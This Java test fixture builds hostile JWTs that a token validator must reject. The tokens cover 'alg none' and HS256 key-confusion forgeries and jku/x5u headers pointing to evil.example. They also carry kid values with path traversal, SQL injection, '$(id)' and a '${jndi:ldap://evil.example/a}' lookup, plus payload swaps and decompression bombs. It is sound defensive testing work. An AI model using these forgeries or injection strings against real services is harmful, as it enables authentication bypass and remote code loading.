package io.github.scalekit4ee.internal.token;

import static io.github.scalekit4ee.internal.token.TestTokens.AUDIENCE;
import static io.github.scalekit4ee.internal.token.TestTokens.HEADER;
import static io.github.scalekit4ee.internal.token.TestTokens.ISSUER;
import static io.github.scalekit4ee.internal.token.TestTokens.KID;
import static io.github.scalekit4ee.internal.token.TestTokens.NOW_SECONDS;
import static io.github.scalekit4ee.internal.token.TestTokens.OTHER_RSA;
import static io.github.scalekit4ee.internal.token.TestTokens.RSA;
import static io.github.scalekit4ee.internal.token.TestTokens.base64;
import static io.github.scalekit4ee.internal.token.TestTokens.machine;
import static io.github.scalekit4ee.internal.token.TestTokens.sign;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import io.github.scalekit4ee.InvalidTokenException.Reason;
import java.security.GeneralSecurityException;
import java.security.interfaces.RSAPublicKey;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * Tokens to be refused, each with the check that must refuse it. Wherever it can be, the signature is the issuer's own, so
 * that nothing but that check stands in the way.
 */
final class HostileTokens {

    private static final String GOOD_PAYLOAD = machine().toString();
    private static final byte[] EMPTY = {};

    private static final List<Hostile> ALL = build();

    private final List<Hostile> all = new ArrayList<>();

    /** @param needsKey whether the key source may have been asked */
    record Hostile(String threat, String token, Reason reason, boolean needsKey) {

        @Override
        public String toString() {
            return threat;
        }
    }

    static List<Hostile> all() {
        return ALL;
    }

    private static List<Hostile> build() {
        HostileTokens tokens = new HostileTokens();
        tokens.algorithms();
        tokens.keys();
        tokens.headers();
        tokens.types();
        tokens.encryption();
        tokens.nesting();
        tokens.duplicates();
        tokens.dates();
        tokens.issuers();
        tokens.audiences();
        tokens.subjects();
        tokens.otherClaims();
        tokens.otherKinds();
        tokens.encodings();
        tokens.serializations();
        tokens.signatures();
        return List.copyOf(tokens.all);
    }

    private void algorithms() {
        for (String none : List.of("none", "None", "NONE", "nONE", "nOne", "noNe", "nonE", "NoNe")) {
            String header = header("\"" + none + "\"");
            add("alg " + none + ", signature kept", sign(header, GOOD_PAYLOAD), Reason.ALGORITHM);
            add("alg " + none + ", no signature", unsigned(header, GOOD_PAYLOAD), Reason.ALGORITHM);
        }
        for (String alg :
                List.of("\"\"", "null", "1", "[\"RS256\"]", "\"rs256\"", "\"RS256 \"", "\"RS256\\u0000\"", "true")) {
            add("alg " + alg, sign(header(alg), GOOD_PAYLOAD), Reason.ALGORITHM);
        }
        add("no alg", sign("{\"kid\":\"" + KID + "\"}", GOOD_PAYLOAD), Reason.ALGORITHM);
        RSAPublicKey key = (RSAPublicKey) RSA.getPublic();
        byte[] der = key.getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der) + "\n-----END PUBLIC KEY-----\n";
        String jwk = "{\"kty\":\"RSA\",\"n\":\"" + base64(key.getModulus().toByteArray()) + "\",\"e\":\"AQAB\"}";
        add("HS256 keyed with the PEM", hmac(pem.getBytes(UTF_8)), Reason.ALGORITHM);
        add("HS256 keyed with the DER", hmac(der), Reason.ALGORITHM);
        add("HS256 keyed with the modulus", hmac(key.getModulus().toByteArray()), Reason.ALGORITHM);
        add("HS256 keyed with the JWK", hmac(jwk.getBytes(UTF_8)), Reason.ALGORITHM);
        add("HS256 with an all but empty key", hmac(new byte[1]), Reason.ALGORITHM);
        add("valid RS384", signAs("RS384", "SHA384withRSA"), Reason.ALGORITHM);
        add("valid RS512", signAs("RS512", "SHA512withRSA"), Reason.ALGORITHM);
        add("PS256 of the same key", signAs("PS256", "SHA256withRSA"), Reason.ALGORITHM);
        add("ES256", signAs("ES256", "SHA256withRSA"), Reason.ALGORITHM);
    }

    private void keys() {
        String jwk = "{\"kty\":\"RSA\",\"kid\":\"" + KID + "\",\"n\":\""
                + base64(((RSAPublicKey) OTHER_RSA.getPublic()).getModulus().toByteArray()) + "\",\"e\":\"AQAB\"}";
        for (String member : List.of(
                "\"jku\":\"https://evil.example/keys\"",
                "\"x5u\":\"https://evil.example/cert.pem\"",
                "\"jwk\":" + jwk,
                "\"x5c\":[\"MIIB\"]")) {
            add(member.substring(0, 5) + " of an attacker who signed", forge(HEADER, member), Reason.SIGNATURE, true);
        }
        add(
                "an attacker's kid and jwk",
                forge("{\"alg\":\"RS256\",\"kid\":\"evil\"}", "\"jwk\":" + jwk),
                Reason.UNKNOWN_KEY,
                true);
        for (String kid : List.of(
                "../../../../dev/null",
                "/etc/passwd",
                "x'OR'1'='1",
                "https://evil.example/key",
                "file:///dev/null",
                "snk_17002334227791973",
                "$(id)",
                "${jndi:ldap://evil.example/a}",
                KID.toUpperCase(java.util.Locale.ROOT))) {
            add("kid " + kid, sign(kidHeader("\"" + kid + "\""), GOOD_PAYLOAD), Reason.UNKNOWN_KEY, true);
        }
        for (String kid : List.of(
                "1",
                "true",
                "null",
                "[\"" + KID + "\"]",
                "{\"kid\":\"" + KID + "\"}",
                "\"\"",
                "\" \"",
                "\"" + KID + "\\r\\nX: y\"",
                "\"" + KID + "\\u0000\"",
                "\"" + KID + " \"",
                "\"\u00e9\"",
                "\"" + "k".repeat(201) + "\"",
                "\"" + "k".repeat(6_000) + "\"")) {
            add("kid " + shorten(kid), sign(kidHeader(kid), GOOD_PAYLOAD), Reason.UNKNOWN_KEY);
        }
        add("no kid", sign("{\"alg\":\"RS256\"}", GOOD_PAYLOAD), Reason.UNKNOWN_KEY);
    }

    private void headers() {
        for (String member : List.of(
                "\"crit\":[\"exp\"],\"exp\":1",
                "\"crit\":[\"unknown\"],\"unknown\":1",
                "\"crit\":[]",
                "\"crit\":null",
                "\"crit\":[\"exp\",\"exp\"],\"exp\":1",
                "\"crit\":\"exp\"",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"b64\":false",
                "\"b64\":true",
                "\"zip\":\"DEF\"")) {
            add("header with " + member, signWithMember(member), Reason.CRITICAL_HEADER);
        }
        add("header is an array", sign("[" + HEADER + "]", GOOD_PAYLOAD), Reason.MALFORMED);
        add("header is empty", sign("", GOOD_PAYLOAD), Reason.MALFORMED);
        add("data after the header", sign(HEADER + "{}", GOOD_PAYLOAD), Reason.MALFORMED);
        add("comment in the header", sign("/**/" + HEADER, GOOD_PAYLOAD), Reason.MALFORMED);
    }

    private void types() {
        for (String typ : List.of(
                "\"dpop+jwt\"",
                "\"logout+jwt\"",
                "\"secevent+jwt\"",
                "\"application/logout+jwt\"",
                "\"id_token+jwt\"",
                "\"JWE\"",
                "\"JOSE\"",
                "\"\"",
                "null",
                "1",
                "[\"JWT\"]",
                "\"JWT \"",
                "\"application/application/jwt\"")) {
            add(
                    "typ " + typ,
                    sign("{\"alg\":\"RS256\",\"kid\":\"" + KID + "\",\"typ\":" + typ + "}", GOOD_PAYLOAD),
                    Reason.TYPE);
        }
    }

    private void encryption() {
        String rest = "." + base64(new byte[256]) + "." + base64(new byte[12]) + "." + base64(new byte[400]) + "."
                + base64(new byte[16]);
        add(
                "JWE in place of a JWS",
                base64("{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\",\"cty\":\"JWT\"}") + rest,
                Reason.ENCRYPTION);
        add(
                "p2c bomb",
                base64("{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2c\":2000000000,\"p2s\":\"AAAA\"}")
                        + rest,
                Reason.ENCRYPTION);
        add("zip bomb", base64("{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\",\"zip\":\"DEF\"}") + rest, Reason.ENCRYPTION);
        add("JWE with the header of a JWS", base64(HEADER) + rest, Reason.ENCRYPTION);
    }

    private void nesting() {
        String arrays = "[".repeat(2_000) + "]".repeat(2_000);
        String objects = "{\"a\":".repeat(1_000) + "1" + "}".repeat(1_000);
        for (String deep : List.of(arrays, objects, "[".repeat(2_000))) {
            add("nested header", sign(addTo(HEADER, "\"x\":" + deep), GOOD_PAYLOAD), Reason.MALFORMED);
            add("nested payload", sign(HEADER, addTo(GOOD_PAYLOAD, "\"x\":" + deep)), Reason.MALFORMED);
        }
    }

    private void duplicates() {
        add("exp twice", signClaim("\"exp\":" + (NOW_SECONDS + 3600)), Reason.MALFORMED);
        add("exp twice, once escaped", signClaim("\"e\\u0078p\":" + (NOW_SECONDS + 3600)), Reason.MALFORMED);
        add("sub twice in a nested object", signClaim("\"custom_claims\":{\"a\":1,\"a\":2}"), Reason.MALFORMED);
        add("alg twice", signWithMember("\"alg\":\"RS256\""), Reason.MALFORMED);
        add("kid twice, once escaped", signWithMember("\"k\\u0069d\":\"" + KID + "\""), Reason.MALFORMED);
    }

    private void dates() {
        add("no exp", sign(machine().without("exp")), Reason.CLAIM);
        for (String date : List.of("exp", "nbf", "iat")) {
            for (String value : List.of(
                    "\"" + (NOW_SECONDS + 60) + "\"",
                    "null",
                    "true",
                    "[" + (NOW_SECONDS + 60) + "]",
                    "{}",
                    "-1",
                    "99999999999999999999",
                    "9223372036854775807",
                    "1e30",
                    (NOW_SECONDS + 60) + "000",
                    "253402300800")) {
                add(date + " " + value, sign(machine().withRaw(date, value)), Reason.CLAIM);
            }
            for (String value :
                    List.of("NaN", "Infinity", "1e999", "01777777777", "0x6a0b0c0d", "1777777777.", "+1777777777")) {
                add(date + " " + value, sign(machine().withRaw(date, value)), Reason.MALFORMED);
            }
        }
        add("expired", sign(machine().withRaw("iat", 0).withRaw("exp", NOW_SECONDS - 30)), Reason.EXPIRED);
        add(
                "expired by a fraction",
                sign(machine().withRaw("iat", 0).withRaw("exp", (NOW_SECONDS - 31) + ".999")),
                Reason.EXPIRED);
        add("exp 0", sign(machine().withRaw("iat", 0).withRaw("exp", 0)), Reason.EXPIRED);
        add("nbf in the future", sign(machine().withRaw("nbf", NOW_SECONDS + 31)), Reason.NOT_YET_VALID);
        add(
                "nbf a fraction too late",
                sign(machine().withRaw("nbf", (NOW_SECONDS + 30) + ".001")),
                Reason.NOT_YET_VALID);
        add("iat in the future", sign(machine().withRaw("iat", NOW_SECONDS + 31)), Reason.NOT_YET_VALID);
        add(
                "iat later than exp",
                sign(machine().withRaw("iat", NOW_SECONDS + 10).withRaw("exp", NOW_SECONDS + 5)),
                Reason.CLAIM);
    }

    private void issuers() {
        for (String issuer : List.of(
                "\"" + ISSUER + "/\"",
                "\"" + ISSUER + "/resources/res_1\"",
                "\"" + ISSUER + ".evil.example\"",
                "\"https://acme.scalekit.dev@evil.example\"",
                "\"https://user@acme.scalekit.dev\"",
                "\"" + ISSUER + "\\u0000\"",
                "\"https://ACME.scalekit.dev\"",
                "\"http://acme.scalekit.dev\"",
                "\"" + ISSUER + ":443\"",
                "\" " + ISSUER + "\"",
                "\"https://acme.scalekit.de\"",
                "\"\"",
                "null",
                "1",
                "[\"" + ISSUER + "\"]",
                "{\"iss\":\"" + ISSUER + "\"}")) {
            add("iss " + issuer, sign(machine().withRaw("iss", issuer)), Reason.ISSUER);
        }
        add("no iss", sign(machine().without("iss")), Reason.ISSUER);
    }

    private void audiences() {
        add("no aud", sign(machine().without("aud")), Reason.AUDIENCE, true);
        for (String audience : List.of(
                "\"\"",
                "[]",
                "null",
                "1",
                "{}",
                "\"https://API.acme.example\"",
                "\"" + AUDIENCE + "/\"",
                "[\"https://other.example\"]",
                "[\"" + AUDIENCE + "\",1]",
                "[\"" + AUDIENCE + "\",null]",
                "[[\"" + AUDIENCE + "\"]]",
                "\"https://other.example " + AUDIENCE + "\"",
                "\"https://other.example," + AUDIENCE + "\"")) {
            add("aud " + audience, sign(machine().withRaw("aud", audience)), Reason.AUDIENCE, true);
        }
    }

    private void subjects() {
        add("no sub", sign(machine().without("sub")), Reason.CLAIM, true);
        for (String subject : List.of(
                "\"\"",
                "\" \"",
                "\"\\t\"",
                "1",
                "null",
                "true",
                "[\"usr_1\"]",
                "{}",
                "\"usr\\r\\n1\"",
                "\"usr\\u00001\"")) {
            add("sub " + subject, sign(machine().withRaw("sub", subject)), Reason.CLAIM, true);
        }
    }

    private void otherClaims() {
        for (String claim : List.of(
                "\"scopes\":1",
                "\"scopes\":[1]",
                "\"scopes\":{\"a\":1}",
                "\"scopes\":null",
                "\"scope\":1",
                "\"scope\":[[\"a\"]]",
                "\"client_id\":1",
                "\"client_id\":\"\"",
                "\"client_id\":null",
                "\"jti\":1",
                "\"jti\":\"a\\nb\"",
                "\"oid\":1",
                "\"oid\":\"\"")) {
            String name = claim.substring(1, claim.indexOf('"', 1));
            add(claim, sign(HEADER, addTo(machine().without(name).toString(), claim)), Reason.CLAIM, true);
        }
        add("org_id 1", sign(machine().without("oid").withRaw("org_id", 1)), Reason.CLAIM, true);
    }

    private void otherKinds() {
        JsonText idToken = machine()
                .without("scopes", "client_id", "jti", "nbf")
                .with("sub", "usr_1")
                .with("email", "a@b.example");
        for (String mark : List.of("at_hash", "c_hash", "nonce", "azp")) {
            add(
                    "ID token with " + mark,
                    sign(idToken.with(mark, "MTIzNDU2Nzg5MDEyMzQ1Ng")),
                    Reason.NOT_AN_ACCESS_TOKEN,
                    true);
        }
        add("ID token with amr", sign(idToken.withRaw("amr", "[\"pwd\"]")), Reason.NOT_AN_ACCESS_TOKEN, true);
        JsonText login = JsonText.object()
                .with("iss", ISSUER)
                .withRaw("exp", NOW_SECONDS + 300)
                .withRaw("iat", NOW_SECONDS)
                .withRaw("nbf", NOW_SECONDS)
                .with("organization_id", "org_1")
                .with("connection_id", "conn_1")
                .with("login_hint", "a@b.example");
        add("IdP-initiated login token", sign(login), Reason.NOT_AN_ACCESS_TOKEN, true);
        add(
                "IdP-initiated login token without a hint",
                sign(login.without("login_hint")),
                Reason.NOT_AN_ACCESS_TOKEN,
                true);
        add(
                "logout token",
                sign(machine().withRaw("events", "{\"http://schemas.openid.net/event/backchannel-logout\":{}}")),
                Reason.NOT_AN_ACCESS_TOKEN,
                true);
    }

    private void boundToAKey() {
        for (String cnf : List.of(
                "{\"jkt\":\"0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I\"}",
                "{\"x5t#S256\":\"bwcK0esc3A\"}",
                "{}",
                "null",
                "\"\"",
                "[]")) {
            add("cnf " + cnf, sign(machine().withRaw("cnf", cnf)), Reason.SENDER_CONSTRAINED, true);
        }
    }

    private void encodings() {
        String good = sign(machine());
        add("UTF-16 payload", sign(HEADER.getBytes(UTF_8), GOOD_PAYLOAD.getBytes(UTF_16)), Reason.MALFORMED);
        add("UTF-16 header", sign(HEADER.getBytes(UTF_16), GOOD_PAYLOAD.getBytes(UTF_8)), Reason.MALFORMED);
        add(
                "0xFF in the payload",
                sign(
                        HEADER.getBytes(UTF_8),
                        machine().with("x", "\u00ff").toString().getBytes(ISO_8859_1)),
                Reason.MALFORMED);
        add("byte order mark before the payload", sign(HEADER, "\uFEFF" + GOOD_PAYLOAD), Reason.MALFORMED);
        add("byte order mark before the header", sign("\uFEFF" + HEADER, GOOD_PAYLOAD), Reason.MALFORMED);
        add("half a surrogate pair", sign(machine().with("x", "\\ud800")), Reason.MALFORMED);
        add("raw NUL in the payload", sign(HEADER, machine().with("x", "\0").toString()), Reason.MALFORMED);
        add("trailing garbage in the payload", sign(HEADER, GOOD_PAYLOAD + "x"), Reason.MALFORMED);
        add("payload is an array", sign(HEADER, "[" + GOOD_PAYLOAD + "]"), Reason.MALFORMED);
        add("payload is empty", sign(HEADER.getBytes(UTF_8), EMPTY), Reason.MALFORMED);
        for (String suffix : List.of("=", "==", " ", "\n", "\r\n", "\t", ".", ".x", "\0", "x", "\u00e9", "\u0141")) {
            add("token followed by " + escape(suffix), good + suffix, Reason.MALFORMED);
        }
        add("token with two empty parts after it", good + "..", Reason.ENCRYPTION);
        for (String prefix : List.of(" ", "\n", ".", "=", "\uFEFF", "Bearer ")) {
            add("token after " + escape(prefix), prefix + good, Reason.MALFORMED);
        }
        add("standard alphabet", good.replace('-', '+').replace('_', '/'), Reason.MALFORMED);
        add("padded header", good.replaceFirst("\\.", "=."), Reason.MALFORMED);
        add(
                "white space in the signature",
                good.substring(0, good.length() - 8) + "\n" + good.substring(good.length() - 8),
                Reason.MALFORMED);
        add("stray bits after the signature", strayBits(good), Reason.MALFORMED);
        String[] parts = good.split("\\.");
        for (int part = 0; part < parts.length; part++) {
            String[] changed = parts.clone();
            changed[part] = "\ud83d\ude00" + parts[part].substring(2);
            add("two characters for one code point in part " + (part + 1), String.join(".", changed), Reason.MALFORMED);
        }
        add(
                "a character beyond Latin-1 that ends in the right byte",
                (char) (good.charAt(0) + 0x100) + good.substring(1),
                Reason.MALFORMED);
        add("percent-encoded dots", good.replace(".", "%2E"), Reason.MALFORMED);
        add("empty", "", Reason.MALFORMED);
        add("two parts", good.substring(0, good.lastIndexOf('.')), Reason.MALFORMED);
        add("four parts", good + "." + base64("x"), Reason.MALFORMED);
        add("six parts", good + ".AA.AA.AA", Reason.MALFORMED);
        add("dots only", "..", Reason.MALFORMED);
        add("not a token", "something", Reason.MALFORMED);
    }

    private void serializations() {
        String[] parts = sign(machine()).split("\\.");
        String signature = "\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2] + "\"";
        String payload = "\"payload\":\"" + parts[1] + "\"";
        add("flattened JSON", "{" + payload + "," + signature + "}", Reason.MALFORMED);
        add("general JSON", "{" + payload + ",\"signatures\":[{" + signature + "}]}", Reason.MALFORMED);
        add("compact inside JSON", "{\"" + parts[0] + "." + parts[1] + "." + parts[2] + "\":1}", Reason.MALFORMED);
        add(
                "two dots in JSON",
                "{\"a\":\"" + parts[0] + "." + parts[1] + "." + parts[2] + "\"," + payload + "}",
                Reason.MALFORMED);
    }

    private void signatures() {
        String good = sign(machine());
        String input = good.substring(0, good.lastIndexOf('.'));
        add("no signature", input + ".", Reason.SIGNATURE, true);
        add(
                "another token's signature",
                input
                        + sign(machine().with("jti", "x"))
                                .substring(sign(machine().with("jti", "x")).lastIndexOf('.')),
                Reason.SIGNATURE,
                true);
        add("another key's signature", forge(HEADER, "\"x\":1"), Reason.SIGNATURE, true);
        byte[] signature = Base64.getUrlDecoder().decode(good.substring(input.length() + 1));
        signature[100] ^= 1;
        add("a bit flipped", input + "." + base64(signature), Reason.SIGNATURE, true);
        add("a byte short", input + "." + base64(java.util.Arrays.copyOf(signature, 255)), Reason.SIGNATURE, true);
        add("a byte too many", input + "." + base64(java.util.Arrays.copyOf(signature, 257)), Reason.SIGNATURE, true);
        add("all zero", input + "." + base64(new byte[256]), Reason.SIGNATURE, true);
        String raised = machine().withRaw("scopes", "[\"admin\"]").toString();
        add(
                "payload exchanged",
                base64(HEADER) + "." + base64(raised) + good.substring(input.length()),
                Reason.SIGNATURE,
                true);
    }

    private void add(String threat, String token, Reason reason) {
        add(threat, token, reason, false);
    }

    private void add(String threat, String token, Reason reason, boolean needsKey) {
        all.add(new Hostile(escape(threat), token, reason, needsKey));
    }

    private static String header(String alg) {
        return "{\"alg\":" + alg + ",\"kid\":\"" + KID + "\",\"typ\":\"JWT\"}";
    }

    private static String kidHeader(String kid) {
        return "{\"alg\":\"RS256\",\"kid\":" + kid + ",\"typ\":\"JWT\"}";
    }

    private static String unsigned(String header, String payload) {
        return base64(header) + "." + base64(payload) + ".";
    }

    private static String signAs(String alg, String jcaName) {
        return sign(header("\"" + alg + "\"").getBytes(UTF_8), GOOD_PAYLOAD.getBytes(UTF_8), jcaName, RSA.getPrivate());
    }

    private static String signWithMember(String member) {
        return sign(addTo(HEADER, member), GOOD_PAYLOAD);
    }

    private static String signClaim(String claim) {
        return sign(HEADER, addTo(GOOD_PAYLOAD, claim));
    }

    private static String forge(String header, String member) {
        return sign(
                addTo(header, member).getBytes(UTF_8),
                GOOD_PAYLOAD.getBytes(UTF_8),
                "SHA256withRSA",
                OTHER_RSA.getPrivate());
    }

    private static String addTo(String object, String member) {
        return object.substring(0, object.length() - 1) + "," + member + "}";
    }

    private static String hmac(byte[] key) {
        try {
            String input = base64(header("\"HS256\"")) + "." + base64(GOOD_PAYLOAD);
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(key, "HmacSHA256"));
            return input + "." + base64(mac.doFinal(input.getBytes(UTF_8)));
        } catch (GeneralSecurityException e) {
            throw new AssertionError(e);
        }
    }

    /** 256 bytes leave two characters of which the last has four bits to spare. */
    private static String strayBits(String token) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int last = alphabet.indexOf(token.charAt(token.length() - 1));
        return token.substring(0, token.length() - 1) + alphabet.charAt(last + 1);
    }

    private static String shorten(String text) {
        return text.length() > 60 ? text.substring(0, 20) + "… " + text.length() + " characters" : text;
    }

    private static String escape(String text) {
        StringBuilder escaped = new StringBuilder();
        text.chars().forEach(c -> {
            if (c >= ' ' && c < 0x7F) {
                escaped.append((char) c);
            } else {
                escaped.append(String.format("U+%04X", c));
            }
        });
        return escaped.toString();
    }
}
